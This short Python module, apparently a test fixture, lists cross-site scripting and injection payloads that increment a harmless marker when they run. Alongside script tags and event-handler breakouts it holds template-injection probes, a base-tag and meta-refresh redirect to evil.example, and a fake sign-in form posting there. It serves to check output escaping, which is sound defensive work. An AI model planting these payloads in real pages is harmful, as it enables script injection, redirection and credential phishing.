"""Markup and script as attackers put them into names, addresses and parameters; each would leave a mark if it ran."""

MARK = "__ran"
RUN = f"window.{MARK}=(window.{MARK}||0)+1"

MARKUP = {
    "script": f"<script>{RUN}</script>",
    "attribute": f'" autofocus onfocus="{RUN}" onmouseover=\'{RUN}\' x="',
    "single": f"' onfocus='{RUN}' autofocus x='",
    "picture": f"\"><img src=x onerror='{RUN}'>",
    "vector": f"</p></dd></bdi><svg onload='{RUN}'></svg>",
    "title": f"</title></textarea></script><script>{RUN}</script>",
    "address": f"javascript:{RUN}",
    "template": "{{ 7 * 7 }}{% raw %}${7*7}",
    "style": "</style><style>body{display:none}</style>",
    "base": '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "form": '"><form action="https://evil.example/"><button>Sign in</button></form>',
    "entity": "&lt;script&gt;&#60;script&#62;&#x22;&quot;",
}
ALL = "".join(MARKUP.values())
